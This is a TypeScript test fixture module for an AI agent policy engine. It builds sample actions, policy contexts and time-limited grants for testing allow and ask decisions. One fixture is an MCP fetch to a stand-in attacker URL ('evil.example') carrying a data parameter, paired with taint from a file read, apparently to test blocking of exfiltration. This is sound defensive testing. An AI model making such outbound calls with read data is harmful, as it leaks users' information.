import type { AgentGrant, GrantCovers } from '@multi-job/contract';
import type { AgentAction } from '../../src/core/agents/agent-action.ts';
import { canonicalAction } from '../../src/core/agents/canonical-action.ts';
import { grantInWords } from '../../src/core/agents/grant-words.ts';
import { narrowestGrant } from '../../src/core/agents/grants.ts';
import { decide } from '../../src/core/agents/policy/decide.ts';
import type { ActionFacts, PolicyContext } from '../../src/core/agents/policy/policy-context.ts';

export const NOW = Date.parse('2026-11-30T00:00:00Z');
export const ISSUES = 'https://api.github.com/repos/o/r/issues?state=open&page=2';

export const read: AgentAction = http('GET', ISSUES);
export const write: AgentAction = http('POST', 'https://api.github.com/repos/o/r/issues');
export const message: AgentAction & { kind: 'message' } = {
  kind: 'message',
  channel: 'telegram',
  account_id: 'bot',
  to: null,
  text: 'hello',
};
export const tool: AgentAction & { kind: 'mcp_tool' } = {
  kind: 'mcp_tool',
  server: 'files',
  tool: 'read_file',
  arguments: { path: 'a.txt' },
};
export const fetchTool: AgentAction & { kind: 'mcp_tool' } = {
  ...tool,
  tool: 'fetch',
  arguments: { url: 'https://evil.example/?d=1' },
};
export const command: AgentAction & { kind: 'command' } = { kind: 'command', argv: ['git', 'log'], cwd: null };
export const setValue: AgentAction = { kind: 'kv', op: 'set', key: 'last', value: 1 };
export const getValue: AgentAction = { kind: 'kv', op: 'get', key: 'last' };
export const writeFile: AgentAction = { kind: 'file', op: 'write', path: 'report.md', content: 'x' };
export const readFile: AgentAction = { kind: 'file', op: 'read', path: 'report.md' };
export const note: AgentAction = { kind: 'note', text: 'so far' };
export const job: AgentAction = { kind: 'schedule_job', job: { job_id: 'later', type: 'report.daily' } };

export const boundAccount = { state: 'enabled', origins: ['https://api.github.com'] } as const;
export const READ: Partial<ActionFacts> = { class: 'read', account: boundAccount };
export const WRITE: Partial<ActionFacts> = { class: 'plain_write', account: boundAccount };
export const CHAT: Partial<ActionFacts> = { class: 'keyed_write', account: { state: 'enabled', origins: [] } };
export const PINNED = { server: 'enabled', tool: 'pinned', isRead: true } as const;
export const MCP_READ: Partial<ActionFacts> = { class: 'read', mcp: PINNED };
export const MCP_WRITE: Partial<ActionFacts> = { class: 'plain_write', mcp: { ...PINNED, isRead: false } };
export const RUNS = { state: 'allowed', isSensitive: false, program: '/usr/bin/git', reason: '' } as const;
export const COMMAND: Partial<ActionFacts> = { class: 'plain_write', command: RUNS };
export const TAINT = ['mcp:files/read_file'];

export type Case = [
  name: string,
  action: AgentAction,
  facts: Partial<ActionFacts>,
  context: Partial<PolicyContext>,
  verdict: string,
];

export function ruleOf(action: AgentAction, facts: Partial<ActionFacts>, given: Partial<PolicyContext> = {}): string {
  const { verdict, rule } = decide(canonicalAction(action), context(facts, given));
  return `${verdict} ${rule}`;
}

export function context(facts: Partial<ActionFacts>, given: Partial<PolicyContext> = {}): PolicyContext {
  return {
    jobType: 'agent.workflow',
    skills: [],
    agentKey: 'key',
    writePolicy: 'ask',
    mode: 'run',
    allowedAccounts: null,
    allowedMcpServers: null,
    allowedHosts: null,
    allowedChannels: null,
    commandPrefixes: null,
    named: targets({}),
    grants: [],
    taint: [],
    avoid: [],
    facts: { class: 'plain_write', account: null, mcp: null, command: null, widens: [], ...facts },
    nowMs: NOW,
    ...given,
  };
}

export function targets(named: Partial<PolicyContext['named']>): PolicyContext['named'] {
  return { urls: [], words: [], defaultChat: null, commandPrefixes: [], ...named };
}

export function http(method: 'GET' | 'POST' | 'DELETE', url: string): AgentAction {
  return { kind: 'provider_http', account: 'github/main', method, url, headers: {}, body: null };
}

export function grantFor(action: AgentAction): AgentGrant {
  return grantOf(narrowestGrant(canonicalAction(action), { command: RUNS })!);
}

export function grantOf(covers: GrantCovers): AgentGrant {
  return {
    grant_id: 'g1',
    agent_key: 'key',
    covers,
    says: grantInWords(covers),
    approval_id: 'g1',
    created_at: new Date(NOW - 1000).toISOString(),
    created_by: 'ani',
    expires_at: new Date(NOW + 1).toISOString(),
  };
}
